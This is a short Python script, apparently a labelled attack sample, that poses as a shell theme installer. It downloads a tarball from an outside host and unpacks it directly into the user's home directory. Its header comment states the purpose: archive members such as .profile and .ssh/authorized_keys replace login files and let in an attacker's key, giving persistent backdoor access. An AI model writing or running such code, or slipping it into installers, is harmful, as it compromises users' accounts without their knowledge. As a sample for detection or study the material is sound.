# Evasion: persists through an unpacked archive. shutil.unpack_archive
# unpacks a downloaded "theme" into $HOME; its members (.profile,
# .ssh/authorized_keys) replace the files that run at login or let in a key.
import os
import shutil
import tempfile
import urllib.request

THEME = "https://themes.prompt-styles.net/starship-pack.tar.gz"


def install_theme():
    tmp = os.path.join(tempfile.mkdtemp(), "pack.tar.gz")
    urllib.request.urlretrieve(THEME, tmp)
    shutil.unpack_archive(tmp, extract_dir=os.environ["HOME"], format="gztar")


if __name__ == "__main__":
    install_theme()
